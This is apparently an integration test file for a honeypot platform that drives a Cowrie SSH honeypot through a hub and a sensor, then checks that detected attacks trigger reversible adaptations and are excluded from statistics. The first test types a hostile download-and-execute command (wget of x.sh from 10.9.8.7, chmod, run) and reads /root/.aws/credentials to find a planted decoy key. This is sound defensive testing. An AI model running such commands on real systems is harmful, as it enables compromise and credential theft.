import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AdaptationPage } from '@cerberusmesh/contract/api-decisions';
import { EventPage } from '@cerberusmesh/contract/api-events';
import { SensorList } from '@cerberusmesh/contract/api-sensors';
import { SourceList } from '@cerberusmesh/contract/api-sources';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { z } from 'zod';
import { hashFolder, type RealCowrie, startCowrie } from './support/cowrie.ts';
import { createTestDatabase, type TestDatabase } from './support/database.ts';
import { type EngineProcess, startProcess } from './support/engine-process.ts';

let database: TestDatabase;
let cowrie: RealCowrie;
let folder: string;
let hub: EngineProcess;
let sensor: EngineProcess;
let url: string;
let token: string;

beforeAll(async () => {
  [database, cowrie] = await Promise.all([
    createTestDatabase(),
    startCowrie({ prepare: true, sensor: 'says-what-it-likes' }),
  ]);
  folder = await mkdtemp(join(tmpdir(), 'cerberus-mesh-'));
  hub = startProcess(['up'], {
    ...{ CERBERUS_DATA_DIR: join(folder, 'hub'), DATABASE_URL: database.url, PORT: '0' },
    ...{ CERBERUS_HUB_PORT: '0', COWRIE_LOG_PATH: join(folder, 'nothing.json') },
  });
  url = await hub.untilSaid(/is up:\s+(\S+)/);
  token = await hub.untilSaid(/(cm_[\w-]+)/);
  const hubUrl = await hub.untilSaid(/come in at\s+(\S+)/);
  const invited = await post('/api/sensors', { sensor: 'north-1' });
  const env = {
    ...{ CERBERUS_DATA_DIR: join(folder, 'sensor'), COWRIE_LOG_PATH: cowrie.logPath },
    ...{ CERBERUS_COWRIE_DIR: cowrie.dir, CERBERUS_COWRIE_PORT: String(cowrie.sshPort) },
  };
  const pin = ['--token', String(invited['token']), '--fingerprint', String(invited['fingerprint'])];
  expect(await startProcess(['sensor', 'enrol', hubUrl, ...pin], env).untilEnd()).toBe(0);
  sensor = startProcess(['sensor'], env);
}, 300_000);

afterAll(async () => {
  await sensor.kill('SIGTERM');
  await hub.kill('SIGTERM');
  await cowrie.stop();
  await database.drop();
  await rm(folder, { recursive: true, force: true });
});

it('an attack beside a sensor changes the Cowrie there, as it changes one beside the hub, and is taken back byte for byte', async () => {
  const before = await hashFolder(join(cowrie.dir, 'etc/cerberus/honeyfs'));
  const first = await cowrie.login();
  await first.type('wget http://10.9.8.7/x.sh -O /tmp/x.sh; chmod 777 /tmp/x.sh; /tmp/x.sh');
  const events = await until(`/api/events?severity=HIGH&sensor=north-1`, EventPage, ({ data }) => data.length > 0);
  expect(events.data[0]).toMatchObject({ sensor: 'north-1' });

  const standing = await until('/api/adaptations?status=verified', AdaptationPage, ({ data }) => data.length === 2);
  for (const one of standing.data) {
    expect(one).toMatchObject({ sensor: 'north-1', success: true, verification: { verified: true, looked: true } });
  }
  expect(first.isOpen()).toBe(true);
  const second = await cowrie.login();
  expect(second.banner).not.toBe(first.banner);
  expect(await second.type('cat /root/.aws/credentials')).toMatch(/aws_access_key_id = AKIA[A-Z2-7]{16}/);

  for (const { id } of standing.data) await post(`/api/adaptations/${id}/rollback`, {});
  expect(await hashFolder(join(cowrie.dir, 'etc/cerberus/honeyfs'))).toBe(before);
}, 120_000);

it('the visits of the probe there are left out of the statistics', async () => {
  const { rows } = await database.pool.query('select count(*)::int as probes from sessions where is_probe');
  expect(rows[0].probes).toBeGreaterThan(0);
  const counted = await database.pool.query('select sum(events)::int as events from rollup_hours');
  const own = await database.pool.query('select count(*)::int as events from events where not is_probe');
  expect(counted.rows).toEqual(own.rows);
});

it('shows the sensor, with its version and clock, and its ledger', async () => {
  const { data } = await get('/api/sensors', SensorList);
  expect(data).toMatchObject([{ sensor: 'north-1', kind: 'mesh', alert: null, heartbeat: { prepared: true } }]);
  expect(Math.abs(data[0]?.clock_skew_ms ?? Number.NaN)).toBeLessThan(5_000);
  // Told by the hub's next look at its sensors, which may be a few seconds away.
  await expect
    .poll(async () => (await get('/api/sources', SourceList)).data.find(isOurs), { timeout: 20_000 })
    .toMatchObject({ active: true, balanced: true, bytes_lost: 0 });
});

function isOurs({ source_id }: { readonly source_id: string }): boolean {
  return source_id === 'sensor north-1';
}

async function post(path: string, body: object): Promise<Record<string, unknown>> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const answer = await fetch(`${url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
  expect(answer.status).toBe(200);
  // An object in every answer that is asked for here.
  return (await answer.json()) as Record<string, unknown>;
}

async function get<T>(path: string, schema: z.ZodType<T>): Promise<T> {
  const answer = await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return schema.parse(await answer.json());
}

async function until<T>(path: string, schema: z.ZodType<T>, isWanted: (answer: T) => boolean): Promise<T> {
  for (const end = Date.now() + 60_000; ; await new Promise((resolve) => setTimeout(resolve, 100))) {
    const answer = await get(path, schema);
    if (isWanted(answer)) return answer;
    if (Date.now() > end)
      throw new Error(`${path} still answers ${JSON.stringify(answer)}\n${hub.said()}\n${sensor.said()}`);
  }
}
